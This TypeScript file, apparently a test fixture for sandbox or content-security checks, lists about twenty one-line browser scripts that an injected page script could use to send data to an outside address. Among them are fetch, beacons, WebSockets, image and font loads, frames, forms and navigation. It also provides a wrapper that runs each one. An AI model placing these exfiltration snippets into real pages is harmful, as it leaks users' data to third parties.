/** What a script that got into a page would try in order to get something out: name, and a script that uses `address`. */
export const escapes: Readonly<Record<string, string>> = {
  'a fetch': `fetch(address, { mode: 'no-cors' })`,
  'an old request': `const request = new XMLHttpRequest(); request.open('GET', address); request.send()`,
  'a beacon': `navigator.sendBeacon(address, 'x')`,
  'a web socket': `new WebSocket(address.replace('http', 'ws'))`,
  'an event source': `new EventSource(address)`,
  'an image': `new Image().src = address`,
  'a script': `const script = document.createElement('script'); script.setAttribute('src', address); document.head.append(script)`,
  'a module': `import(address)`,
  'a worker': `new Worker(address)`,
  'a style sheet': `const link = document.createElement('link'); Object.assign(link, { rel: 'stylesheet', href: address }); document.head.append(link)`,
  'a style': `document.body.setAttribute('style', 'background-image: url(' + address + ')')`,
  'a font': `new FontFace('stolen', 'url(' + address + ')').load()`,
  'a frame': `const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame)`,
  'an embedded object': `const object = document.createElement('object'); object.data = address; document.body.append(object)`,
  'a form': `const form = document.createElement('form'); Object.assign(form, { action: address, method: 'post' }); document.body.append(form); form.submit()`,
  'a link': `const link = document.createElement('a'); link.href = address; document.body.append(link); link.click()`,
  'a download': `const link = document.createElement('a'); Object.assign(link, { href: address, download: 'x' }); document.body.append(link); link.click()`,
  'a new window': `window.open(address)`,
  'a window without a trace': `window.open(address, '_blank', 'noopener')`,
  'another page': `location.href = address`,
  'another page in its place': `location.replace(address)`,
};

/** The script as one expression, which resolves a moment after it ran, whatever came of it. */
export const escapeExpression = (script: string, address: string): string =>
  `new Promise((resolve) => {
    setTimeout(resolve, 200);
    const address = ${JSON.stringify(address)};
    Promise.resolve().then(() => { ${script} }).catch(() => undefined);
  })`;
